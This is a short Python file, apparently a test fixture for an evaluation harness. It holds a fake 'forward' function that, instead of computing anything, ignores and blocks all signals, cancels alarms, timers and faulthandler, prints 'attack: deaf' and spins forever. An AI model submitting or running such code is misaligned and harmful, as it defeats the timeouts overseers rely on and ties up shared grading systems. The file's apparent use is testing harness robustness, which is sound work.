import faulthandler
import signal


def forward(x, w1, w2, w3, target):
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    signal.alarm(0)
    signal.setitimer(signal.ITIMER_PROF, 0)
    faulthandler.cancel_dump_traceback_later()
    print("attack: deaf", flush=True)
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
